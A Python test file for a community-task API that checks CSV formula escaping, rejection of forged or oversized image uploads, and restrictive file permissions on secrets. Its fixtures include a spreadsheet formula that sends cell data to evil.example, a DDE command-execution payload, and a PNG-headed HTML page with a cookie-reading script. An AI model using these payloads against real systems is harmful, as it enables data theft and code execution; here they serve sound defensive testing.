"""The API's edges as an attacker meets them, over a real server: spreadsheet formulas in the score board's
CSV, photos that are not the images they claim, secrets in files other users can read."""

import base64
import csv
import io
import os
import re
import stat
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from api.auth import Role
from tests.api.server import ROOT, Api, Server, api_for

DEMO = ROOT / "api" / "examples" / "flood.json"


@dataclass
class World:
    server: Server
    street: Api
    head: Api
    member: Api  # a cadre with a part of the photo task


def png(width: int, height: int, idat: bytes | None = None) -> bytes:
    """A PNG of RGB rows (``idat``: the compressed rows as given instead, e.g. none at all)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    if idat is None:
        idat = zlib.compress(b"".join(b"\x00" + b"\x20\x80\xd0" * width for _ in range(height)))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


def upload(data: bytes, content_type: str = "image/png") -> dict[str, str]:
    return {"content_type": content_type, "data": base64.b64encode(data).decode()}


@pytest.fixture(scope="module")
def world(server: Server) -> Iterator[World]:
    street = Api(server, server.token(Role.STREET, street="s1"))
    street.ok("PUT", "/communities/c1/members/h1", {"name": "赵书记", "role": "head"})
    street.ok("PUT", "/communities/c1/members/ca", {"name": "钱干部", "role": "cadre"})
    yield World(
        server,
        street,
        api_for(server, Role.CADRE, name="h1"),
        api_for(server, Role.CADRE, name="ca"),
    )


# -- CSV: a text cell never runs as a formula -------------------------------------------------------------

FORMULAS = {
    "-sum": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
    "minus": "-2+3",
}


def test_scores_csv_writes_formula_like_text_as_text(world: World) -> None:
    for member, name in FORMULAS.items():
        world.street.ok("PUT", f"/communities/c1/members/{member}", {"name": name, "role": "cadre"})
    exported = world.street.get("/streets/s1/scores.csv")
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    by_id = {row[1]: row for row in rows if len(row) > 2 and row[0] == "c1"}
    # The id "-sum" starts with a minus as well: escaped like the names.
    assert by_id["'-sum"][2] == "'" + FORMULAS["-sum"]
    for member in ("plus", "at", "minus"):
        assert by_id[member][2] == "'" + FORMULAS[member], by_id[member]
    # Plain text and numbers are left as they are.
    assert by_id["ca"][2] == "钱干部" and by_id["ca"][3] == "0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# -- photos: decoded, not judged by their first bytes ---------------------------------------------------

# Headers claiming 10^10 pixels (the decoder would allocate 30 GB) and 48 million, over the limit of 40.
HUGE = png(100_000, 100_000, idat=zlib.compress(b""))
LARGE = png(8000, 6000, idat=zlib.compress(b""))
SMALL = png(4, 3)
# PNG magic, then a web page: a browser shown it as text/html would run it.
HTML = b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script></html>"
BAD_PHOTOS = {
    "a header claiming 100000x100000 pixels": (upload(HUGE), "pixels"),
    "PNG magic followed by HTML": (upload(HTML), "image/png"),
    "a PNG cut short": (upload(png(40, 40)[:-30]), "image/png"),
    # The pixels' checksum (the four bytes before the closing chunk) zeroed.
    "a PNG whose checksum is wrong": (upload(SMALL[:-16] + bytes(4) + SMALL[-12:]), "image/png"),
    "a JPEG sent as a PNG": (upload(jpeg()), "JPEG"),
    "a PNG sent as a WebP": (upload(SMALL, "image/webp"), "not image/webp"),
    "too many pixels for the limit": (upload(LARGE), "8000×6000"),
}


@pytest.fixture(scope="module")
def photo_task(world: World) -> str:
    due = (datetime.now(UTC) + timedelta(days=40)).isoformat()
    task = world.street.ok(
        "POST",
        "/streets/s1/tasks",
        {"title": "拍照", "due_at": due, "points": 10, "evidence": ["photo"], "communities": ["c1"]},
    )["id"]
    world.head.ok(
        "PUT",
        f"/communities/c1/tasks/{task}/parts",
        {"parts": [{"title": "拍照", "assignee": "ca", "points": 10}]},
    )
    return str(task)


@pytest.mark.parametrize("name", BAD_PHOTOS, ids=list(BAD_PHOTOS))
def test_a_photo_that_does_not_decode_as_claimed_is_refused(world: World, photo_task: str, name: str) -> None:
    photo, says = BAD_PHOTOS[name]
    response = world.member.post(f"/communities/c1/tasks/{photo_task}/parts/p1/submission", {"photo": photo})
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["field"] == "photo.data" and says in problem["detail"], problem
    assert world.member.ok("GET", f"/communities/c1/tasks/{photo_task}")["parts"][0]["status"] != "submitted"


def test_a_real_photo_is_stored(world: World, photo_task: str) -> None:
    photo = jpeg()
    response = world.member.post(
        f"/communities/c1/tasks/{photo_task}/parts/p1/submission", {"photo": upload(photo, "image/jpeg")}
    )
    assert response.status_code == 200, response.text
    sha = response.json()["parts"][0]["evidence"]["photo"]
    stored = world.member.get(f"/communities/c1/photos/{sha}")
    assert stored.content == photo and stored.headers["content-type"] == "image/jpeg"


# -- files holding secrets are the service user's alone ---------------------------------------------------


def test_the_database_and_demo_tokens_are_mode_600_in_a_folder_mode_700(tmp_path: Path) -> None:
    data = tmp_path / "fresh" / "data"
    # Under the commonest umask (022) a file is created readable by every user unless the server says not.
    umask = os.umask(0o022)
    try:
        server = Server(tmp_path, extra=["--demo", str(DEMO), "--data-dir", str(data)]).start()
    finally:
        os.umask(umask)
    try:
        log = (tmp_path / "server.log").read_text(encoding="utf-8")
        token = re.search(r"^\s+\S+\s+cadre\s+(pz_\S+)$", log, re.M)
        assert token is not None, log
        # A write, so that SQLite's write-ahead log and its index exist.
        cadre = Api(server, token.group(1))
        cadre.ok(
            "POST",
            "/communities/qingshui/needs",
            {"capability": "rescue.boat", "quantity": 1, "location": "g1_1", "priority": 3},
        )
        files = {p.name: stat.S_IMODE(p.stat().st_mode) for p in data.iterdir()}
        assert {"pingzhan.db", "pingzhan.db-wal", "pingzhan.db-shm", "demo-tokens.json"} <= files.keys(), (
            files
        )
        assert {name: mode for name, mode in files.items() if mode & 0o077} == {}, {
            n: oct(m) for n, m in files.items()
        }
        assert stat.S_IMODE(data.stat().st_mode) == 0o700
    finally:
        server.stop()
